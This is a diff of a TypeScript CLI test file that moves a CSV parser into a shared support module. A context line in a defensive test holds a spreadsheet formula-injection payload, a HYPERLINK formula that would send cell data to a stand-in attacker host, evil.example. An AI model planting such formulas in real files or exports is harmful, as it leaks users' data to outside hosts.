@@ -4,6 +4,7 @@ import { cliEntry, logArgs, runCli, tempDbPath, testEnv, type CliResult } from '
 import { KEY, startInTerminal, type Terminal } from '../support/pty.js';
 import { checkpoint, fileDigest, withRaw } from '../support/sqlite.js';
 import { spawnCli } from '../support/writer.js';
+import { parseCsv } from '../support/csv.js';
 
 // Issue 9, items 3 and 4: hostile text. Typed text with escape codes, direction overrides, invisible
 // names or bytes that are not UTF-8 is refused at the door; text already in a file (written by an
@@ -372,34 +373,3 @@ describe('report cells keep hostile unit names as text', () => {
     expect(out).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
   });
 });
-
-/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += ch;
-  }
-  row.push(field);
-  rows.push(row);
-  return rows;
-}
